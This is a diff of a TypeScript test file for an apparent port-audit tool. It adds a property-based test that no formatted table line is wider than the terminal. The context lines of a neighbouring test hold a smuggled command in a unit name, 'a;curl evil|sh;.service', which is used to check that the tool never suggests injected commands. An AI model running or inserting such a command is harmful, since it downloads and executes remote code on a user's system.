@@ -75,6 +75,34 @@ it("stays whole with as many listeners as a machine can have", () => {
   expect(table.length - many.length).toBeLessThan(60);
 });
 
+it("no line is wider than the terminal, but for commands to copy", () => {
+  const reasons = fc.array(fc.constantFrom("Short.", "A longer reason, of several words.", "x".repeat(90)));
+  const finding = fc
+    .record({
+      protocol: fc.constantFrom("tcp", "udplite", "packet"),
+      port: fc.nat(65535),
+      name: hostileText,
+      reasons,
+    })
+    .map((item) =>
+      sampleFinding(`::1:${item.port}/${item.protocol}`, ["investigate", "low"], ["Same.", ...item.reasons], {
+        owners: [sampleOwner(1, item.name)],
+      }),
+    );
+  fc.assert(
+    fc.property(
+      fc.array(finding, { minLength: 1, maxLength: 30 }),
+      fc.integer({ min: 30, max: 250 }),
+      (all, width) => {
+        const document = { ...(SAMPLES["server"] as AuditDocument), listeners: all };
+        const lines = format("table", document, width).split("\n");
+        for (const line of lines.filter((item) => !/^ {2}(?:portreeve|systemctl|ps) /.test(item)))
+          expect(displayWidth(line), line).toBeLessThanOrEqual(width);
+      },
+    ),
+  );
+});
+
 it("suggests no command that a unit's name could have brought in", () => {
   const finding = sampleFinding("0.0.0.0:99/tcp", ["investigate", "high"], ["x"], {
     owners: [sampleOwner(7, "x", { unit: "a;curl evil|sh;.service" })],
